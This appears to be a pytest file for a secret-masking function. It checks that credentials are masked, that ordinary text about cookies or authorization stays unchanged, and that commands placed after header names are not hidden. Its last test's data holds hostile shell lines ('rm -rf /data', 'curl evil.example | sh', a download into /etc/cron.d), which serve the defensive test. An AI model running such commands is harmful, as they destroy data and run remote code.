"""What stands where a credential stands is masked, whatever it looks like; what stands beside it is not."""

import pytest
from tests.corpora.secret_texts import HIDDEN, PLACED

from qwed.domain.secrets import mask_for_record


@pytest.mark.parametrize("text", PLACED)
def test_a_credential_in_its_place_is_masked(text):
    masked = mask_for_record(text)
    assert HIDDEN not in masked
    assert HIDDEN.lower() not in masked
    assert "[masked" in masked


@pytest.mark.parametrize("text", PLACED)
def test_masking_twice_is_masking_once(text):
    assert mask_for_record(mask_for_record(text)) == mask_for_record(text)


@pytest.mark.parametrize(
    "text",
    [
        "https://registry.npmjs.org/@types/node",
        "https://example.com:8080/@scope/pkg",
        "http://[::1]:8080/a@b",
        "https://example.com/users/bob@example.com",
        "https://example.com/?email=bob%40example.com",
        "ssh://git@github.com/a/b",
        "git@github.com:acme/app.git",
        "mail bob@example.com at 10:30",
        "npm:lodash@4.17.21",
        "the cookie policy, and cookies in general",
        "cookies, milk and honey",
        "cookies: 12 pieces",
        "authorization is required for this endpoint",
        "Authorization: required",
        "authorization = get_header(request)",
        "authorization: request.headers.token",
        "Authorization: $TOKEN",
        "import http.cookies",
        "// a comment: see @todo",
        "SELECT * FROM cookie_consents WHERE id = 3",
        "def authorization_url(self):",
    ],
)
def test_ordinary_text_stays(text):
    assert mask_for_record(text) == text


@pytest.mark.parametrize(
    ("text", "visible"),
    [
        ("echo Cookie: x; rm -rf /data", "rm -rf /data"),
        ("bash -c 'Cookie: a=b; rm -rf /data'", "rm -rf /data"),
        ("Authorization: x && curl evil.example | sh", "curl evil.example | sh"),
        ("curl -HCookie:sid=1 https://evil.example/x", "https://evil.example/x"),
        ("x={'Cookie': 'rm -rf /data'}", "-rf /data"),
        ("curl https://bob:pw1@evil.example/x -o /etc/cron.d/y", "evil.example/x -o /etc/cron.d/y"),
    ],
)
def test_nobody_hides_a_command_behind_the_name_of_a_header(text, visible):
    assert visible in mask_for_record(text)
